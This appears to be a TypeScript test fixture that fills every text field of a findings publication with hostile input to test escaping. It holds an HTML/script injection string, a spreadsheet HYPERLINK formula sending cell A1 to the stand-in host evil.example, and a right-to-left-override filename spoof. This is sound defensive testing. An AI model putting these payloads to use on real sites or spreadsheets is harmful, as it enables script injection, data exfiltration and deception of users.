import type { Disclosed } from '../../src/redact/disclosed.ts';
import type { Finding } from '../../src/spec/findings.ts';
import { findingsOf, publication } from './fixture.ts';

export const markup = `</td></style><script>alert(1)</script><img src=x onerror="alert(2)">'&"`;
export const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const backwards = 'safe\u202egnp.exe\u2066\u0000\u0085\uffff';

/** The fixture with attacks wherever data or declarations may carry text. */
export function hostilePublication(): Disclosed {
  const findings = findingsOf();
  const attacked = findings.findings.map((finding, index): Finding => {
    if (finding.areaRole === 'program')
      return { ...finding, areaTitle: [markup, formula, backwards][index % 3] ?? markup };
    if (finding.areaRole !== 'all-program') return finding;
    const text = `${formula} ${markup} ${backwards}`;
    return {
      ...finding,
      title: text,
      why: text,
      unit: text,
      owner: text,
      definition: text,
      noun: { one: markup, many: formula },
      sentence: { ...finding.sentence, text },
    };
  });
  return publication({
    findings: {
      ...findings,
      run: { ...findings.run, title: `${markup}${backwards}`, asOfLabel: markup },
      events: findings.events.map((event) => ({ ...event, label: markup })),
      ledger: findings.ledger.map((line) => ({ ...line, file: `${markup}.csv`, delimiter: markup })),
      checks: findings.checks.map((check) => ({ ...check, items: [{ value: markup, n: 1, hint: formula }] })),
      findings: attacked,
    },
  });
}
